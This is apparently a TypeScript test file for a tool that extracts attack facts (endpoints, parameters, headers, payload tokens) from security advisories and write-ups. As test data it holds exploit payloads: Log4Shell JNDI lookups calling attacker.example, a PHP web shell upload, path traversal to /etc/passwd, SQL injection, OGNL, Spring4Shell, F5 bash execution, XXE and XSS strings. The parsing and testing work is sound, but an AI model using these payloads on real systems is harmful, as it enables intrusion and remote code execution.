import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';

import {
  type FactSource,
  extractFacts,
  hasFacts,
  percentDecode,
  shellWords,
} from '../../src/evidence/extract.js';

const fixture = (name: string) =>
  readFileSync(fileURLToPath(new URL(`fixtures/${name}`, import.meta.url)), 'utf8');

/** The snippet recorded for one fact. */
function snippet(sources: FactSource[], field: FactSource['field'], value: string): string | undefined {
  return sources.find((s) => s.field === field && s.value === value)?.snippet;
}

describe('extractFacts on advisories', () => {
  it('Log4Shell-style advisory: raw request in a code block, payload headers, obfuscated lookups', () => {
    const { facts, sources } = extractFacts(fixture('log4shell-advisory.md'));
    expect(facts).toEqual({
      attackClass: 'jndi-injection',
      endpoints: ['/viewer/search'],
      parameters: ['q'],
      methods: ['GET'],
      headers: ['User-Agent', 'X-Api-Version'],
      payloadTokens: ['${::-', '${jndi:'],
    });
    expect(snippet(sources, 'headers', 'X-Api-Version')).toBe(
      'X-Api-Version: ${jndi:ldap://attacker.example:1389/Exploit}',
    );
    expect(snippet(sources, 'payloadTokens', '${::-')).toBe(
      'User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example:1389/Exploit}',
    );
    expect(snippet(sources, 'endpoints', '/viewer/search')).toBe('GET /viewer/search?q=test HTTP/1.1');
    // Reference links (apache.org, nvd.nist.gov) are not endpoints; Accept and Host are not exploit headers.
    expect(sources.every((s) => !s.value.includes('log4j/2.x'))).toBe(true);
  });

  it('path traversal advisory with a multi-line curl PoC', () => {
    const { facts, sources } = extractFacts(fixture('traversal-curl.md'));
    expect(facts).toEqual({
      attackClass: 'path-traversal',
      endpoints: ['/api/v1/files/download'],
      parameters: ['file', 'inline'],
      methods: ['GET'],
      headers: ['X-FileHub-Client'],
      payloadTokens: ['../', '/etc/passwd', '..%2f'],
    });
    expect(snippet(sources, 'methods', 'GET')).toMatch(
      /^curl -sk --path-as-is -X GET 'http:\/\/target:8080\/api\/v1\/files\/download\?file=\.\.\/\.\.\//,
    );
    expect(snippet(sources, 'payloadTokens', '..%2f')).toBe(
      'URL-encoded variants such as `..%2f..%2f..%2fetc%2fpasswd` are also accepted.',
    );
  });

  it('blog with a raw HTTP request (JSON body) in a code block', () => {
    const { facts, sources } = extractFacts(fixture('raw-request-blog.md'));
    expect(facts).toEqual({
      attackClass: 'ssti',
      endpoints: ['/admin/preview'],
      parameters: ['title', 'template', 'lang'],
      methods: ['POST'],
      headers: [],
      payloadTokens: ['{{7*7}}', '{{self', '__globals__', '__builtins__'],
    });
    expect(snippet(sources, 'parameters', 'template')).toBe(
      '{"title": "hello", "template": "{{7*7}}", "lang": "en"}',
    );
    expect(snippet(sources, 'attackClass', 'ssti')).toBe(
      '{"title": "hello", "template": "{{7*7}}", "lang": "en"}',
    );
  });

  it('SQL injection write-up: form body, prose payloads', () => {
    const { facts, sources } = extractFacts(fixture('sqli-writeup.md'));
    expect(facts).toEqual({
      attackClass: 'sqli',
      endpoints: ['/track.php'],
      parameters: ['order_id', 'email'],
      methods: ['POST'],
      headers: [],
      payloadTokens: ['sleep(', "' OR 1=1", 'UNION SELECT'],
    });
    expect(snippet(sources, 'payloadTokens', 'sleep(')).toBe(
      "order_id=1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -&email=a%40b.c",
    );
  });

  it('finds nothing in text without exploit content', () => {
    const r = extractFacts(fixture('release-notes.md'));
    expect(r.facts).toEqual({ endpoints: [], parameters: [], methods: [], headers: [], payloadTokens: [] });
    expect(r.sources).toEqual([]);
    expect(hasFacts(r.facts)).toBe(false);
    expect(extractFacts('').facts.payloadTokens).toEqual([]);
  });
});

describe('extractFacts: request forms', () => {
  it('reads an OGNL payload in a curl Content-Type header (Struts-style)', () => {
    const text = [
      '```',
      `curl -H "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" \\`,
      '  http://target:8080/struts2-showcase/index.action',
      '```',
    ].join('\n');
    expect(extractFacts(text).facts).toEqual({
      attackClass: 'expression-injection',
      endpoints: ['/struts2-showcase/index.action'],
      parameters: [],
      methods: ['GET'],
      headers: ['Content-Type'],
      payloadTokens: ['%{(#', '@ognl.OgnlContext@'],
    });
  });

  it('reads curl data, JSON, forms and method inference', () => {
    const spring = extractFacts(
      "curl -X POST http://localhost:8080/app/greeting -d 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'",
    ).facts;
    expect(spring).toMatchObject({
      attackClass: 'code-injection',
      endpoints: ['/app/greeting'],
      parameters: ['class.module.classLoader.resources.context.parent.pipeline.first.suffix'],
      methods: ['POST'],
      payloadTokens: ['class.module.classLoader'],
    });

    const json = extractFacts(
      `curl -k https://192.0.2.7/mgmt/tm/util/bash -H 'X-F5-Auth-Token: a' --json '{"command": "run", "utilCmdArgs": "-c id"}'`,
    ).facts;
    expect(json).toMatchObject({
      endpoints: ['/mgmt/tm/util/bash'],
      parameters: ['command', 'utilCmdArgs'],
      methods: ['POST'],
      headers: ['X-F5-Auth-Token'],
    });

    const upload = extractFacts(
      `curl -F 'file=@shell.php;filename=shell.php' http://target/upload.php`,
    ).facts;
    expect(upload).toMatchObject({ endpoints: ['/upload.php'], parameters: ['file'], methods: ['POST'] });

    const get = extractFacts(
      `curl -G http://target/search --data-urlencode "q=<script>alert(1)</script>"`,
    ).facts;
    expect(get).toMatchObject({
      attackClass: 'xss',
      endpoints: ['/search'],
      parameters: ['q'],
      methods: ['GET'],
      payloadTokens: ['<script', 'alert('],
    });
  });

  it('reads a Python requests call and a header dictionary in a PoC script', () => {
    const text = [
      '```python',
      'import requests',
      'r = requests.post(url + "/cgi-bin/ping.cgi", data={"ip": "127.0.0.1;id", "count": "1"}, headers={"X-Debug": "1"})',
      '```',
    ].join('\n');
    expect(extractFacts(text).facts).toEqual({
      attackClass: 'command-injection',
      endpoints: ['/cgi-bin/ping.cgi'],
      parameters: ['ip', 'count'],
      methods: ['POST'],
      headers: ['X-Debug'],
      payloadTokens: [';id'],
    });
  });

  it('reads URL-encoded payloads in request targets and URLs with placeholder hosts', () => {
    const text =
      'Open http://victim.example/search?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E to trigger it. ' +
      'See also https://github.com/acme/app/issues/12 and https://nvd.nist.gov/vuln/detail/CVE-2099-1.';
    const { facts } = extractFacts(text);
    expect(facts).toEqual({
      attackClass: 'xss',
      endpoints: ['/search'],
      parameters: ['q'],
      methods: [],
      headers: [],
      payloadTokens: ['<script', 'alert(', 'document.domain'],
    });
  });

  it('reports request values that look like payloads but match no known syntax, literally', () => {
    const text = ['```', 'GET /render?name=foo%27%3Bvar%20x%3D1%2F%2F HTTP/1.1', 'Host: t', '```'].join('\n');
    expect(extractFacts(text).facts.payloadTokens).toEqual(["foo';var x=1//"]);
  });

  it('reads a multipart upload and several requests in one block', () => {
    const text = [
      '```',
      'POST /wp-json/x/upload HTTP/1.1',
      'Host: t',
      'Content-Type: multipart/form-data; boundary=XX',
      '',
      '--XX',
      'Content-Disposition: form-data; name="file"; filename="a.php"',
      '',
      '<?php system($_GET["c"]); ?>',
      '--XX--',
      'GET /uploads/a.php?c=id HTTP/1.1',
      'Host: t',
      '```',
    ].join('\n');
    expect(extractFacts(text).facts).toEqual({
      attackClass: 'file-upload',
      endpoints: ['/wp-json/x/upload', '/uploads/a.php'],
      parameters: ['file', 'c'],
      methods: ['POST', 'GET'],
      headers: [],
      payloadTokens: ['.php', '<?php', 'system($_GET'],
    });
  });
});

describe('extractFacts: prose', () => {
  it('reads parameters, headers, endpoints and methods named in sentences', () => {
    const text = [
      'The `sort` and `order` parameters are concatenated into the query, as is the id parameter.',
      'Parameters `from`, `to` and `limit` are safe.',
      'Sending a POST request to /api/v2/export with a crafted X-Tenant-Id header triggers it;',
      'the "X-Forwarded-Host" header is trusted as well, and the `/admin/backup` endpoint leaks files.',
    ].join('\n');
    const { facts } = extractFacts(text);
    expect(facts).toEqual({
      endpoints: ['/api/v2/export', '/admin/backup'],
      parameters: ['sort', 'order', 'id', 'from', 'to', 'limit'],
      methods: ['POST'],
      headers: ['X-Tenant-Id', 'X-Forwarded-Host'],
      payloadTokens: [],
    });
  });

  it('does not read Markdown inline code, tables or shell set-up as payloads', () => {
    const text = [
      'The `id` parameter is numeric.',
      '',
      '| id | name |',
      '|----|------|',
      '| 1  | a    |',
      '',
      '```',
      '#!/bin/bash',
      'cd build; make && make install',
      'root:x:0:0:root:/root:/bin/bash',
      '```',
    ].join('\n');
    const { facts } = extractFacts(text);
    expect(facts.payloadTokens).toEqual([]);
    expect(facts.attackClass).toBeUndefined();
    expect(facts.parameters).toEqual(['id']);
  });

  it('votes the attack class from payloads first, then from named vulnerability classes', () => {
    expect(extractFacts('An SQL injection in the login form.').facts.attackClass).toBe('sqli');
    expect(
      extractFacts('A server-side request forgery (SSRF) in the webhook tester.').facts.attackClass,
    ).toBe('ssrf');
    // Three XXE syntaxes outweigh one mention of "path traversal".
    const xxe =
      '```\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n```\nThis is not a path traversal.';
    expect(extractFacts(xxe).facts).toMatchObject({
      attackClass: 'xxe',
      payloadTokens: ['<!DOCTYPE', '<!ENTITY', 'SYSTEM "file:', '/etc/passwd'],
    });
  });
});

describe('extractFacts: robustness', () => {
  // How its time grows with such input is measured by `npm run bench:linearity`.
  it('reads hostile input to the end', () => {
    extractFacts('a'.repeat(300_000));
    extractFacts(`${'`'.repeat(100_000)}\n${"'".repeat(100_000)}`);
    extractFacts(`GET /${' '.repeat(100_000)}x\n`.repeat(3));
    extractFacts(`curl ${"'a".repeat(50_000)}`);
    extractFacts(`${'the `a` , '.repeat(20_000)} parameters`);
    extractFacts(`${'${'.repeat(50_000)}jndi:`);
    expect(extractFacts(`http://target/${'('.repeat(50_000)}`)).toBeDefined();
  });

  it('keeps facts within the schema limits', () => {
    const lines = Array.from({ length: 200 }, (_, i) => `GET /p${i}?a${i}=1 HTTP/1.1`).join('\n\n');
    const { facts } = extractFacts(lines);
    expect(facts.endpoints).toHaveLength(60);
    expect(facts.parameters).toHaveLength(60);
  });
});

describe('helpers', () => {
  it('splits shell words like a POSIX shell', () => {
    expect(shellWords(`curl -H 'A: b c' -d "x=\\"1\\"" $'a\\nb' plain\\ word | grep x`)).toEqual([
      'curl',
      '-H',
      'A: b c',
      '-d',
      'x="1"',
      'a\nb',
      'plain word',
    ]);
  });

  it('percent-decodes without throwing', () => {
    expect(percentDecode('%3Cscript%3E+x', true)).toBe('<script> x');
    expect(percentDecode('%E2%82%AC %zz %')).toBe('€ %zz %');
    expect(percentDecode('%C0%AE')).toBe('\uFFFD\uFFFD');
  });
});
